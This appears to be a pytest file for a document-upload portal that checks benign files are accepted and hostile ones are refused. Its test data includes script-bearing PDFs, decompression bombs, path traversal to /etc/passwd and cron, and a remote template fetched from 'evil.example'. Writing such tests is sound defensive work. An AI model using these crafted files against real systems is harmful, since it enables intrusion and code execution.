"""What we take and what we refuse (D13 to D17), each with a real file."""

import io
import stat
import time
import zipfile

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from sandbox_portal.casework.refusals import Refused
from sandbox_portal.documents.choices import LARGEST_FILE
from sandbox_portal.documents.intake import examined

from .samples import docx, giant_png, moving_png, pdf_with, photo, png_header, upload, zeros


def kept(content: bytes, name: str) -> bytes:
    with examined(upload(content, name)) as file:
        return file.content.read()


def refusal(content: bytes, name: str) -> str:
    with pytest.raises(Refused) as refused, examined(upload(content, name)):
        pass
    return refused.value.sentence


def symlink(name: str) -> zipfile.ZipInfo:
    part = zipfile.ZipInfo(name)
    part.external_attr = (stat.S_IFLNK | 0o777) << 16
    return part


@pytest.mark.parametrize(
    ("content", "name", "media_type"),
    [
        (pdf_with(), "plan.pdf", "application/pdf"),
        (docx(), "plan.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        (photo(), "door.jpeg", "image/jpeg"),
        (photo(fmt="PNG"), "door.PNG", "image/png"),
        ("Caffè – £5\n".encode(), "notes.txt", "text/plain"),
        ("Caff\xe8 \xa35\r\n".encode("cp1252"), "notes.txt", "text/plain"),
        (b"name,hours\nA,3\n", "rota.csv", "text/csv"),
    ],
)
def test_a_good_file_is_taken_as_what_it_is(content, name, media_type):
    with examined(upload(content, name)) as file:
        assert file.media_type == media_type


@pytest.mark.parametrize(
    ("content", "name", "because"),
    [
        (b"MZ\x90\x00", "plan.pdf.exe", "is not a kind of file we can take"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "plan.svg", "is not a kind of file we can take"),
        (b"\0\0\0\x18ftypheic\0\0\0\0mif1heic", "door.heic", "HEIC photo"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "plan.doc", "old format"),
        (docx(), "plan.docm", "macros"),
        (b"", "plan.pdf", "is empty"),
        (b"<!DOCTYPE html><script>alert(1)</script>", "plan.pdf", "is a web page"),
        (b"<html><body>%PDF-1.7", "plan.pdf", "is a web page"),
        (b"%PDF-1.7\n<html><script>alert(1)</script></html>\n%%EOF", "plan.pdf", "cannot be opened"),
        (b"MZ\x90\x00" + bytes(600), "plan.pdf", "is not what its ending .pdf says"),
        (photo(), "door.png", "is not what its ending .png says"),
        (b"GIF89a=1;alert(1)//", "door.jpg", "is not what its ending .jpg says"),
        (b"\xff\xd8\xff\xe0<script>alert(1)</script>", "door.jpg", "cannot be opened"),
        (photo()[:200], "door.jpg", "cannot be opened"),
        (b"\x00\x01\x02 binary", "notes.txt", "is not what its ending .txt says"),
        (b"<script>alert(1)</script>", "notes.txt", "is a web page"),
        (b"%PDF-1.7\n", "notes.txt", "is not what its ending .txt says"),
        (moving_png(), "door.png", "moving picture"),
    ],
)
def test_a_file_that_is_not_what_it_says_is_refused_with_a_sentence(content, name, because):
    assert because in refusal(content, name)


def test_a_file_of_25_megabytes_is_taken_and_one_byte_more_is_not():
    assert len(kept(b"a" * LARGEST_FILE, "notes.txt")) == LARGEST_FILE
    assert "larger than 25 MB" in refusal(b"a" * (LARGEST_FILE + 1), "notes.txt")


def active(pdf, **entries):
    pdf.Root.OpenAction = Dictionary(**entries)


@pytest.mark.parametrize(
    "change",
    [
        lambda pdf: active(pdf, S=Name.JavaScript, JS=String("app.alert(1)")),
        lambda pdf: active(pdf, S=Name.Launch, F=String("calc.exe")),
        lambda pdf: active(pdf, S=Name.URI, URI=String("http://example.org/")),
        lambda pdf: setattr(pdf.Root, "AA", Dictionary(WC=Dictionary(S=Name.JavaScript, JS=String("1")))),
        lambda pdf: setattr(pdf.pages[0], "AA", pdf.make_indirect(Dictionary(O=Dictionary(S=Name.Launch)))),
        lambda pdf: pdf.Root.__setitem__(
            "/Names", Dictionary(JavaScript=Dictionary(Names=Array([String("x"), Dictionary(S=Name.JavaScript)])))
        ),
        lambda pdf: pdf.attachments.__setitem__("virus.exe", pikepdf.AttachedFileSpec(pdf, b"MZ")),
        lambda pdf: setattr(
            pdf.pages[0],
            "Annots",
            Array([Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]))]),
        ),
        lambda pdf: setattr(pdf.Root, "AcroForm", Dictionary(Fields=Array(), XFA=String("<xdp/>"))),
    ],
    ids=["script", "launch", "address", "actions", "page-launch", "names", "attachment", "pinned-file", "xfa"],
)
def test_a_pdf_that_can_act_by_itself_is_refused(change):
    assert "can act by itself" in refusal(pdf_with(change), "plan.pdf")


def test_a_pdf_that_opens_at_a_page_or_links_to_an_address_is_taken():
    def harmless(pdf):
        pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])
        link = Dictionary(S=Name.URI, URI=String("https://www.example.org/"))
        pdf.pages[0].Annots = Array([Dictionary(Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=link)])

    assert kept(pdf_with(harmless), "plan.pdf").startswith(b"%PDF-")


def test_a_pdf_locked_with_a_password_is_refused_with_what_to_do():
    output = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf_with())) as pdf:
        pdf.save(output, encryption=pikepdf.Encryption(owner="o", user="secret"))

    assert "Save a copy without a password" in refusal(output.getvalue(), "plan.pdf")


def test_a_pdf_that_unpacks_to_300_megabytes_is_refused_quickly():
    def bomb(pdf):
        stream = pikepdf.Stream(pdf, b"")
        stream.write(zeros(300_000_000), filter=Name.FlateDecode)
        pdf.pages[0].Contents = pdf.make_indirect(stream)

    content = pdf_with(bomb)
    begun = time.monotonic()

    assert "unpacks to far more" in refusal(content, "plan.pdf")
    assert len(content) < 400_000
    assert time.monotonic() - begun < 15


def test_a_pdf_with_a_zip_behind_it_is_refused():
    assert "cannot be opened" in refusal(pdf_with() + docx(("a.txt", "x" * 9000)) + bytes(range(256)) * 20, "plan.pdf")


@pytest.mark.parametrize(
    ("part", "because"),
    [
        (("word/vbaProject.bin", b"x"), "macros"),
        (("word/embeddings/oleObject1.bin", b"x"), "macros"),
        (("../../etc/cron.d/x", b"x"), "can harm a computer"),
        (("/etc/passwd", b"x"), "can harm a computer"),
        ((symlink("word/link"), b"/etc/passwd"), "can harm a computer"),
        (("word/inner.zip", docx()), "has other files packed inside it"),
        (("word/big.xml", bytes(160_000_000)), "unpacks to far more"),
        (
            (
                "word/_rels/settings.xml.rels",
                '<Relationships><Relationship Type="http://x/relationships/attachedTemplate" '
                'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
            ),
            "loads something from another place",
        ),
    ],
    ids=["macro", "ole", "climbs", "absolute", "symlink", "zip-in-zip", "bomb", "template"],
)
def test_a_word_document_with_a_trick_inside_is_refused(part, because):
    assert because in refusal(docx(part), "plan.docx")


def test_a_word_document_with_links_to_follow_is_taken():
    rels = (
        '<Relationships><Relationship Type="http://schemas.example/relationships/hyperlink" '
        'Target="https://www.example.org/" TargetMode="External"/></Relationships>'
    )

    assert kept(docx(("word/_rels/document.xml.rels", rels)), "plan.docx").startswith(b"PK")


def test_an_archive_of_10000_parts_is_refused():
    assert "unpacks to far more" in refusal(docx(*((f"p/{n}", "") for n in range(10_000))), "plan.docx")


def test_a_zip_that_is_no_document_is_refused():
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        archive.writestr("readme.txt", "x")

    assert "is not what its ending .docx says" in refusal(output.getvalue(), "plan.docx")


def test_a_picture_of_900_megapixels_is_refused_before_a_pixel_is_read():
    content = giant_png()
    begun = time.monotonic()

    assert "more than 40 megapixels" in refusal(content, "wall.png")
    assert len(content) < 3_000_000
    assert time.monotonic() - begun < 5


def test_the_limit_of_pixels_is_exact():
    assert "more than 40 megapixels" in refusal(png_header(8_000, 5_001), "wall.png")
    assert "cannot be opened" in refusal(png_header(8_000, 5_000), "wall.png")


@pytest.mark.parametrize(("fmt", "name"), [("JPEG", "door.jpg"), ("PNG", "door.png")])
def test_a_photo_keeps_its_pixels_and_its_way_up_and_nothing_else(fmt, name):
    content = photo((40, 30), orientation=6, fmt=fmt)

    fresh = kept(content, name)

    picture = Image.open(io.BytesIO(fresh))
    assert picture.size == (30, 40)
    assert dict(picture.getexif()) == {}
    assert {"comment", "Comment", "exif"} & set(picture.info) == set()
    assert b"Bramble" in content
    assert b"Bramble" not in fresh
    assert b"Exif" not in fresh


@pytest.mark.parametrize(
    ("content", "name", "mode"),
    [
        (photo(mode="CMYK"), "door.jpg", "RGB"),
        (photo(mode="I;16", fmt="PNG"), "door.png", "L"),
        (photo(mode="RGBA", fmt="PNG"), "door.png", "RGBA"),
    ],
)
def test_unusual_colours_become_usual_ones(content, name, mode):
    picture = Image.open(io.BytesIO(kept(content, name)))
    picture.load()

    assert picture.mode == mode


def test_a_script_behind_a_photo_is_not_kept():
    assert b"alert" not in kept(photo() + b"<script>alert(1)</script>", "door.jpg")
